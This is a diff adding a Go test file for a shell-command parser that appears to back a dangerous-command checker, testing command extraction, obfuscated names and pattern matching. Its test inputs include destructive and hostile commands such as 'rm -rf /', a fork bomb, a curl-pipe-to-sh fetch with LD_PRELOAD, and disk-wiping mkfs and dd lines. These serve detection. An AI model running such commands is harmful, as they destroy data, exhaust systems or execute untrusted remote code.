@@ -0,0 +1,168 @@
+package shell
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// TestParseCommands tests that simple commands are found in every construct.
+func TestParseCommands(t *testing.T) {
+	tests := []struct {
+		name  string
+		src   string
+		names []string
+	}{
+		{name: "single command", src: "ls -la", names: []string{"ls"}},
+		{name: "and list", src: "go build ./... && go test ./...", names: []string{"go", "go"}},
+		{name: "pipeline", src: "cat file | grep foo | wc -l", names: []string{"cat", "grep", "wc"}},
+		{name: "subshell", src: "(cd sub && make)", names: []string{"cd", "make"}},
+		{name: "command substitution", src: "echo $(go env GOPATH)", names: []string{"echo", "go"}},
+		{name: "backticks", src: "echo `whoami`", names: []string{"echo", "whoami"}},
+		{name: "heredoc substitution", src: "cat <<EOF\n$(id)\nEOF", names: []string{"cat", "id"}},
+		{name: "loop body", src: "for f in *.go; do gofmt -l $f; done", names: []string{"gofmt"}},
+		{name: "wrappers", src: "sudo -u root env FOO=1 nohup rm file", names: []string{"rm"}},
+		{name: "timeout duration", src: "timeout 5 make test", names: []string{"make"}},
+		{name: "absolute path", src: "/usr/bin/git status", names: []string{"git"}},
+		{name: "export", src: "export FOO=bar", names: []string{"export"}},
+		{name: "escaped name", src: `\rm -rf / && r\m x`, names: []string{"rm", "rm"}},
+		{name: "ANSI-C quoted name", src: `$'\x72\x6d' x; $'\162m' y; $'r\u006d' z`, names: []string{"rm", "rm", "rm"}},
+		{name: "double quoted backslash", src: `"r\m" x`, names: []string{`r\m`}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			script, err := Parse(tt.src)
+			if err != nil {
+				t.Fatalf("Parse() error = %v", err)
+			}
+			var names []string
+			for _, cmd := range script.Commands {
+				names = append(names, cmd.Name)
+			}
+			if !reflect.DeepEqual(names, tt.names) {
+				t.Errorf("Parse() names = %v, want %v", names, tt.names)
+			}
+		})
+	}
+}
+
+// TestParseDetails tests the details recorded for each command.
+func TestParseDetails(t *testing.T) {
+	script, err := Parse("curl -s http://x | LD_PRELOAD=lib.so sh > out.txt\n$CMD arg")
+	if err != nil {
+		t.Fatalf("Parse() error = %v", err)
+	}
+	if len(script.Commands) != 3 {
+		t.Fatalf("expected 3 commands, got %d", len(script.Commands))
+	}
+
+	curl, sh, dyn := script.Commands[0], script.Commands[1], script.Commands[2]
+	if curl.Piped {
+		t.Error("curl should not be piped")
+	}
+	if !sh.Piped {
+		t.Error("sh should read from a pipe")
+	}
+	if !reflect.DeepEqual(sh.Assigns, []string{"LD_PRELOAD"}) {
+		t.Errorf("sh assigns = %v", sh.Assigns)
+	}
+	if len(sh.Redirects) != 1 || sh.Redirects[0].Op != ">" || sh.Redirects[0].Target != "out.txt" || !sh.Redirects[0].IsWrite() {
+		t.Errorf("sh redirects = %+v", sh.Redirects)
+	}
+	if !dyn.Dynamic || dyn.Line != 2 || dyn.Col != 1 {
+		t.Errorf("dynamic command = %+v", dyn)
+	}
+	if !reflect.DeepEqual(script.Params, []string{"CMD"}) {
+		t.Errorf("params = %v", script.Params)
+	}
+}
+
+// TestParseFunctions tests recursive function detection.
+func TestParseFunctions(t *testing.T) {
+	script, err := Parse(":(){ :|:& };:")
+	if err != nil {
+		t.Fatalf("Parse() error = %v", err)
+	}
+	if len(script.Functions) != 1 || !script.Functions[0].Recursive {
+		t.Errorf("expected a recursive function, got %+v", script.Functions)
+	}
+
+	script, err = Parse("greet() { echo hi; }; greet")
+	if err != nil {
+		t.Fatalf("Parse() error = %v", err)
+	}
+	if len(script.Functions) != 1 || script.Functions[0].Recursive {
+		t.Errorf("expected a non-recursive function, got %+v", script.Functions)
+	}
+}
+
+// TestParseError tests that invalid syntax is reported.
+func TestParseError(t *testing.T) {
+	if _, err := Parse("echo 'unterminated"); err == nil {
+		t.Error("expected parse error")
+	}
+}
+
+// TestCommandMatches tests pattern matching against commands.
+func TestCommandMatches(t *testing.T) {
+	tests := []struct {
+		src     string
+		pattern string
+		want    bool
+	}{
+		{"rm -rf /", "rm -rf /", true},
+		{"rm -rf ./build", "rm -rf /", false},
+		{"sudo reboot", "reboot", true},
+		{"sudo rm -rf /var", "sudo rm", true},
+		{"mkfs.ext4 /dev/sda", "mkfs", true},
+		{"dd if=/dev/zero of=out bs=1M", "dd if=/dev/zero", true},
+		{"echo shutdown", "shutdown", false},
+		{"systemctl status", "systemctl reboot", false},
+		{"SHUTDOWN -h now", "shutdown", true},
+		{"rm -RF /", "rm -rf /", true},
+		{"sudo Reboot", "reboot", true},
+	}
+
+	for _, tt := range tests {
+		script, err := Parse(tt.src)
+		if err != nil {
+			t.Fatalf("Parse(%q) error = %v", tt.src, err)
+		}
+		if got := script.Commands[0].Matches(tt.pattern); got != tt.want {
+			t.Errorf("%q.Matches(%q) = %v, want %v", tt.src, tt.pattern, got, tt.want)
+		}
+	}
+}
+
+// TestCommandFlags tests flag and operand helpers.
+func TestCommandFlags(t *testing.T) {
+	script, err := Parse("rm -fr --verbose target -- -odd")
+	if err != nil {
+		t.Fatalf("Parse() error = %v", err)
+	}
+	cmd := script.Commands[0]
+
+	if !cmd.HasFlag('r') || !cmd.HasFlag('f') || !cmd.HasFlag(0, "--verbose") {
+		t.Error("expected -r, -f and --verbose flags")
+	}
+	if cmd.HasFlag('i') {
+		t.Error("unexpected -i flag")
+	}
+	if got := cmd.Operands(); !reflect.DeepEqual(got, []string{"target", "-odd"}) {
+		t.Errorf("Operands() = %v", got)
+	}
+}
+
+// TestCommandError tests that errors point at the offending sub-command.
+func TestCommandError(t *testing.T) {
+	script, err := Parse("ls && rm -rf /")
+	if err != nil {
+		t.Fatalf("Parse() error = %v", err)
+	}
+	cmdErr := NewCommandError(script.Commands[1], "recursive removal of %s", "/")
+	msg := cmdErr.Error()
+	if !strings.Contains(msg, "`rm -rf /`") || !strings.Contains(msg, "1:7") {
+		t.Errorf("unexpected error message: %s", msg)
+	}
+}